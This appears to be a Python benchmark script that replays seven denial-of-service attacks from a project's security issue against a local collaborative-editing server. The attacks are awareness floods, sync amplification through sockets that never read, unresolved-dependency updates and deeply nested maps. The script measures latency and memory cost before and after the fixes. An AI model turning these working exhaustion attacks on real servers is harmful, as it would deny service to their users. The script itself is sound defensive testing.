"""What the attacks of issue #18 (findings 1, 2, 3, 5, 6) cost honest users.

    .venv/bin/python -m bench.attacks                                   # this checkout
    .venv/bin/python -m bench.attacks --before 5cdad4e --after HEAD     # side by side
    .venv/bin/python -m bench.attacks --only flood step-1               # some of them

Each attack runs against a fresh ``collab serve`` (memory store, default
limits) while two honest clients on another document type one character
every 50 ms: the probe is the time from one client's edit until the other
sees it.  Reported per attack: the worst probe latency during the attack,
the server's peak RSS above its RSS before the attack, the close codes the
server logged, and what the attack achieved.

Sizes are smaller than in the issue, so that a run takes minutes; they
still show each effect.  The server runs on core 0, this script on core 1.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import os
import re
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
from pycrdt import Doc, Encoder, Map, Text

from bench.servers import GENERATOR_CPU, SERVER_CPU, free_port, pinned
from collab import protocol
from collab.client import Session
from collab.protocol import AwarenessEntry

ROOT = Path(__file__).resolve().parent.parent
MiB = 1024 * 1024
#: How long one attack may run before it is cut (the old code can take long).
ATTACK_TIMEOUT = 120.0


# -- the server and what it costs -----------------------------------------------------------


class Server:
    """``collab serve`` from ``source`` (a checkout), with its RSS and log at hand."""

    def __init__(self, source: Path, *flags: str) -> None:
        self.port = free_port()
        argv = [sys.executable, "-m", "collab", "serve", "--host", "127.0.0.1"]
        argv += ["--port", str(self.port), "--store", "memory://", *flags]
        # Lives as long as the server; closed in stop().
        self.log = tempfile.TemporaryFile()  # noqa: SIM115
        self.proc = subprocess.Popen(
            pinned(SERVER_CPU, argv),
            cwd=source,
            env={**os.environ, "PYTHONPATH": str(source)},
            stdin=subprocess.DEVNULL,
            stdout=self.log,
            stderr=subprocess.STDOUT,
        )
        self.url = f"ws://127.0.0.1:{self.port}/ws"

    async def ready(self) -> None:
        for _ in range(600):
            with suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", self.port)
                writer.close()
                return
            await asyncio.sleep(0.05)
        raise RuntimeError("server did not start")

    def rss(self) -> int:
        with suppress(OSError), open(f"/proc/{self.proc.pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
        return 0

    def close_codes(self) -> list[int]:
        """The codes of the close lines the server logged for its clients' faults."""
        self.log.seek(0)
        text = self.log.read().decode(errors="replace")
        codes = (int(c) for c in re.findall(r"close doc=.* code=(\d+)", text))
        return sorted({c for c in codes if c not in (1000, 1001, 1005, 1006)})

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(15)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self.log.close()


@dataclass
class Result:
    attack: str
    latency: float = 0.0  # worst probe latency, seconds
    rss: int = 0  # peak RSS above the baseline
    codes: list[int] = field(default_factory=list)  # close codes the server logged
    note: str = ""
    #: Start measuring from here: an attack's preparation is not its cost.
    reset: Callable[[], None] = lambda: None


class Probe:
    """Two honest clients on document ``probe``: edit, then time until the other sees it."""

    def __init__(self, url: str) -> None:
        self.a = Session(url, "probe")
        self.b = Session(url, "probe")
        self.worst = 0.0
        #: Edits started before this are not counted (see ``reset``).
        self.since = 0.0
        self._task: asyncio.Task[None] | None = None

    def reset(self) -> None:
        self.worst = 0.0
        self.since = time.perf_counter()

    async def start(self) -> None:
        for s in (self.a, self.b):
            await s.start()
            await s.wait_synced(30)
        self._task = asyncio.create_task(self._run())

    async def _run(self) -> None:
        text = self.a.doc.get("text", type=Text)
        seen = self.b.doc.get("text", type=Text)
        while True:
            started = time.perf_counter()
            text.insert(len(text), "x")
            want = len(text)
            await self.b.wait_for(lambda: len(seen) >= want, timeout=600)  # noqa: B023
            # An edit in flight at a reset counts from the reset.
            waited = time.perf_counter() - max(started, self.since)
            self.worst = max(self.worst, waited)
            await asyncio.sleep(0.05)

    async def stop(self) -> None:
        if self._task is not None:
            self._task.cancel()
            with suppress(asyncio.CancelledError, TimeoutError):
                await self._task
        for s in (self.a, self.b):
            await s.close()


Attack = Callable[[Server, aiohttp.ClientSession, Result], Awaitable[None]]


async def measure(source: Path, name: str, attack: Attack, *flags: str) -> Result:
    server = Server(source, *flags)
    result = Result(name)
    try:
        await server.ready()
        probe = Probe(server.url)
        await probe.start()
        await asyncio.sleep(0.5)
        base = peak = server.rss()

        async def sample() -> None:
            nonlocal peak
            while True:
                peak = max(peak, server.rss())
                await asyncio.sleep(0.05)

        def reset() -> None:
            nonlocal base, peak
            probe.reset()
            base = peak = server.rss()

        result.reset = reset
        sampler = asyncio.create_task(sample())
        probe.reset()
        async with aiohttp.ClientSession() as http:
            try:
                async with asyncio.timeout(ATTACK_TIMEOUT):
                    await attack(server, http, result)
            except TimeoutError:
                result.note += f" (attack cut at {ATTACK_TIMEOUT:g} s)"
            await asyncio.sleep(1.0)  # the tail of the damage
        result.latency = probe.worst
        sampler.cancel()
        result.rss = max(peak, server.rss()) - base
        await probe.stop()
    finally:
        result.codes = server.close_codes()
        server.stop()
    return result


async def send_all(ws: aiohttp.ClientWebSocketResponse, frames: list[bytes]) -> None:
    """Send frames until the server closes the socket, then wait for the close."""
    for frame in frames:
        if ws.closed:
            break
        try:
            await ws.send_bytes(frame)
        except (ConnectionError, aiohttp.ClientError):
            break
    await closed(ws, wait=5)


async def closed(ws: aiohttp.ClientWebSocketResponse, wait: float) -> None:
    """Read until the server closes the socket (or ``wait`` ends: then close it)."""
    with suppress(TimeoutError, ConnectionError, aiohttp.ClientError):
        async with asyncio.timeout(wait):
            async for _ in ws:
                pass
    if not ws.closed:
        with suppress(ConnectionError, aiohttp.ClientError):
            await ws.close()


class DeafSocket:
    """A WebSocket client that never reads, so the server's replies pile up
    (aiohttp's client reads into memory on its own)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer

    @classmethod
    async def open(cls, port: int, path: str) -> DeafSocket:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
            "Sec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        await reader.readuntil(b"\r\n\r\n")  # the 101; nothing more is ever read
        return cls(reader, writer)

    def send(self, payload: bytes) -> None:
        mask = os.urandom(4)
        size = len(payload)
        if size < 126:
            head = bytes([0x82, 0x80 | size])
        elif size < 1 << 16:
            head = bytes([0x82, 0x80 | 126]) + size.to_bytes(2, "big")
        else:
            head = bytes([0x82, 0x80 | 127]) + size.to_bytes(8, "big")
        body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
        self._writer.write(head + mask + body)

    def close(self) -> None:
        self._writer.close()


# -- the attacks ----------------------------------------------------------------------------


def awareness_frame(entries: list[AwarenessEntry]) -> bytes:
    return protocol.awareness(protocol.encode_awareness_entries(entries))


async def awareness_flood(server: Server, http: aiohttp.ClientSession, result: Result) -> None:
    """Finding 1: frames of 500,000 fresh ids (clock 1, null), one every 2 s."""
    honest = Session(server.url, "room")
    try:
        await honest.start()
        await honest.wait_synced(30)
        ws = await http.ws_connect(f"{server.url}/room", max_msg_size=0)
        frames = [
            awareness_frame([AwarenessEntry(1_000_000 * k + i, 1, "null") for i in range(500_000)])
            for k in range(3)
        ]
        result.reset()  # building the frames is not the server's cost
        for frame in frames:
            if ws.closed:
                break
            with suppress(ConnectionError, aiohttp.ClientError):
                await ws.send_bytes(frame)
            await asyncio.sleep(2)
        await closed(ws, wait=20)
        result.note = f"an honest client in the room holds {len(honest.awareness.meta)} records"
    finally:
        await honest.close()


async def step1_amplification(server: Server, http: aiohttp.ClientSession, result: Result) -> None:
    """Finding 2: a 4 MB document; 4 sockets that never read send 63 step 1s each
    with a state vector that is not empty (1 KB in all)."""
    writer = Session(server.url, "big")
    try:
        await writer.start()
        await writer.wait_synced(30)
        text = writer.doc.get("text", type=Text)
        for _ in range(8):
            text.insert(len(text), "y" * 500_000)
            await asyncio.sleep(0.2)
        await asyncio.sleep(2)
        result.reset()
        # A state vector that is not empty (and lacks almost everything).
        clients = protocol.decode_state_vector(writer.doc.get_state())
        vector = Encoder()
        vector.write_var_uint(len(clients))
        for client in clients:
            vector.write_var_uint(client)
            vector.write_var_uint(1)
        frame = protocol.sync_step1(vector.to_bytes())
        deaf = [await DeafSocket.open(server.port, "/ws/big") for _ in range(4)]
        for ws in deaf:
            for _ in range(63):
                ws.send(frame)
        await asyncio.sleep(10)  # never read: let the server queue
        for ws in deaf:
            ws.close()
    finally:
        await writer.close()


async def query_amplification(server: Server, http: aiohttp.ClientSession, result: Result) -> None:
    """Finding 3: plant 100,000 states (as far as the server lets one socket),
    then 30 one-byte queries; an honest client joining the room is timed."""
    planter = await http.ws_connect(f"{server.url}/room", max_msg_size=0)
    frames = [
        awareness_frame([AwarenessEntry(10_000 * k + i + 1, 1, '{"u":1}') for i in range(10_000)])
        for k in range(10)
    ]
    for frame in frames:
        if planter.closed:
            break
        with suppress(ConnectionError, aiohttp.ClientError):
            await planter.send_bytes(frame)
        await asyncio.sleep(0.5)
    # Planting is finding 1; from here on it is the queries' cost.
    settle = Session(server.url, "room")
    await settle.start()
    await settle.wait_synced(ATTACK_TIMEOUT)
    await asyncio.sleep(1)
    planted = len(settle.awareness.states)
    await settle.close()
    result.reset()
    asker = await http.ws_connect(f"{server.url}/room", max_msg_size=0)
    for _ in range(30):
        with suppress(ConnectionError, aiohttp.ClientError):
            await asker.send_bytes(protocol.query_awareness())
    started = time.perf_counter()
    honest = Session(server.url, "room")
    try:
        await honest.start()
        await honest.wait_synced(ATTACK_TIMEOUT)
        result.note = (
            f"{planted} states planted; an honest join then synced in "
            f"{time.perf_counter() - started:.2f} s"
        )
    finally:
        await honest.close()
    await closed(asker, wait=0.1)
    await closed(planter, wait=0.1)


def chained(count: int, size: int) -> list[bytes]:
    """``count`` edits of ``size`` bytes that all depend on a first one never sent."""
    doc: Doc[Any] = Doc()
    text = doc.get("text", type=Text)
    text.insert(0, "first")
    updates = []
    for _ in range(count):
        before = doc.get_state()
        text.insert(len(text), "w" * size)
        updates.append(doc.get_update(before))
    return updates


async def pending_structs(server: Server, http: aiohttp.ClientSession, result: Result) -> None:
    """Finding 5a: 64 MB of updates whose dependency is never sent, into a
    document capped at 4 MB (--max-doc-size 4194304)."""
    updates = chained(64, MiB)
    result.reset()
    ws = await http.ws_connect(f"{server.url}/capped", max_msg_size=0)
    sent = 0
    for update in updates:
        if ws.closed:
            break
        with suppress(ConnectionError, aiohttp.ClientError):
            await ws.send_bytes(protocol.sync_update(update))
            sent += len(update)
        await asyncio.sleep(0.15)  # under the byte rate
    await closed(ws, wait=5)
    result.note = f"{sent / MiB:.0f} MB sent before the client saw a close"


async def orphan_deletes(server: Server, http: aiohttp.ClientSession, result: Result) -> None:
    """Finding 5b: a 4 MB delete set for content that does not exist, then
    edits on that document, timed from one honest client to another."""
    encoder = Encoder()
    ranges = 1_000_000
    for value in (0, 1, 424_242, ranges):
        encoder.write_var_uint(value)
    for i in range(ranges):
        encoder.write_var_uint(2 * i)
        encoder.write_var_uint(1)
    frame = protocol.sync_update(encoder.to_bytes())
    result.reset()
    ws = await http.ws_connect(f"{server.url}/victim", max_msg_size=0)
    await send_all(ws, [frame])
    a, b = Session(server.url, "victim"), Session(server.url, "victim")
    try:
        for s in (a, b):
            await s.start()
            await s.wait_synced(30)
        text, seen = a.doc.get("text", type=Text), b.doc.get("text", type=Text)
        times = []
        for _ in range(20):
            started = time.perf_counter()
            text.insert(len(text), "z")
            want = len(text)
            await b.wait_for(lambda: len(seen) >= want, timeout=60)  # noqa: B023
            times.append(time.perf_counter() - started)
        times.sort()
        result.note = (
            f"an edit on the attacked document: median {times[10] * 1000:.0f} ms, "
            f"worst {times[-1] * 1000:.0f} ms"
        )
    finally:
        for s in (a, b):
            await s.close()


async def nested_maps(server: Server, http: aiohttp.ClientSession, result: Result) -> None:
    """Finding 6: 24 MB of small nested maps, 1 MB per frame."""
    doc: Doc[Any] = Doc()
    root = doc.get("map", type=Map)
    updates = []
    for batch in range(24):
        before = doc.get_state()
        with doc.transaction():
            for i in range(65_000):
                root[f"{batch}.{i}"] = Map()
        updates.append(doc.get_update(before))
    result.reset()
    ws = await http.ws_connect(f"{server.url}/maps", max_msg_size=0)
    sent = 0
    for update in updates:
        if ws.closed:
            break
        with suppress(ConnectionError, aiohttp.ClientError):
            await ws.send_bytes(protocol.sync_update(update))
            sent += len(update)
        await asyncio.sleep(0.2)
    await closed(ws, wait=5)
    result.note = f"{sent / MiB:.0f} MB of maps sent before the client saw a close"


async def deep_nesting(server: Server, http: aiohttp.ClientSession, result: Result) -> None:
    """Finding 6 (depth): an awareness state and maps nested 100,000 levels deep."""
    deep = "[" * 100_000 + "]" * 100_000
    doc: Doc[Any] = Doc()
    level = doc.get("map", type=Map)
    with doc.transaction():
        for _ in range(100_000):
            inner: Map[object] = Map()
            level["k"] = inner
            level = inner
    update = doc.get_update()
    result.reset()
    ws = await http.ws_connect(f"{server.url}/deep", max_msg_size=0)
    await send_all(ws, [awareness_frame([AwarenessEntry(7, 1, deep)])])
    ws = await http.ws_connect(f"{server.url}/deep", max_msg_size=0)
    await send_all(ws, [protocol.sync_update(update)])
    async with http.get(f"{server.url.replace('ws://', 'http://')[:-3]}/api/docs/deep") as resp:
        result.note = f"GET /api/docs/deep answers {resp.status}"


ATTACKS: list[tuple[str, Attack, tuple[str, ...]]] = [
    ("1 awareness flood", awareness_flood, ()),
    ("2 step-1 amplification", step1_amplification, ()),
    ("3 query amplification", query_amplification, ()),
    ("5 pending structs", pending_structs, ("--max-doc-size", str(4 * MiB))),
    ("5 orphan delete set", orphan_deletes, ()),
    ("6 nested maps", nested_maps, ()),
    ("6 deep nesting", deep_nesting, ()),
]


# -- the report -----------------------------------------------------------------------------


def export(rev: str) -> Path:
    """A checkout of ``rev`` in a temporary directory."""
    target = Path(tempfile.mkdtemp(prefix=f"collab-{rev}-"))
    archive = subprocess.run(["git", "archive", rev], cwd=ROOT, capture_output=True, check=True)
    subprocess.run(["tar", "-x", "-C", str(target)], input=archive.stdout, check=True)
    return target


def cells(r: Result) -> str:
    codes = ", ".join(map(str, r.codes)) or "-"
    return f"{r.latency * 1000:,.0f} ms | {r.rss / MiB:,.0f} MiB | {codes} | {r.note.strip()}"


async def main_async(args: argparse.Namespace) -> int:
    chosen = [a for a in ATTACKS if not args.only or any(o in a[0] for o in args.only)]
    before_tree = export(args.before) if args.before else None
    after_tree = export(args.after) if args.after else ROOT
    rows = []
    for name, attack, flags in chosen:
        row = f"| {name} |"
        if before_tree is not None:
            before = await measure(before_tree, name, attack, *flags)
            print(f"before: {name}: {cells(before)}", flush=True)
            row += f" {cells(before)} |"
        after = await measure(after_tree, name, attack, *flags)
        print(f"after:  {name}: {cells(after)}", flush=True)
        rows.append(f"{row} {cells(after)} |")
    head = "probe latency | RSS growth | closed with | effect"
    print()
    if before_tree is not None:
        print(f"| attack | before: {head} | after: {head} |")
        print("|---" * 9 + "|")
    else:
        print(f"| attack | {head} |")
        print("|---" * 5 + "|")
    print("\n".join(rows))
    return 0


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--before", metavar="REV", help="also run the attacks on this commit")
    parser.add_argument(
        "--after", metavar="REV", help="run the attacks on this commit, not on this checkout"
    )
    parser.add_argument("--only", nargs="*", help="attacks whose name contains one of these")
    args = parser.parse_args()
    # A SIGTERM unwinds (servers are stopped in finally blocks).
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    if len(os.sched_getaffinity(0)) >= 2:
        os.sched_setaffinity(0, {int(GENERATOR_CPU)})
    return asyncio.run(main_async(args))


if __name__ == "__main__":
    sys.exit(main())
